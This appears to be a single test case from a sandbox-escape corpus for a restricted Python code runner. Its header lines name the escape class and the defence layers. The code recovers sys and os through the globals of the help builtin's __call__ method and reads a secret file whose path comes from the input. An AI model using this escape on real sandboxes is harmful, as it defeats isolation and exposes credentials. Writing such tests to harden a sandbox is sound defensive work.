# class: denied builtins come back
# technique: help, an object with pydoc below it
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
g = {"sys": help.__class__.__call__.__globals__["sys"]}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
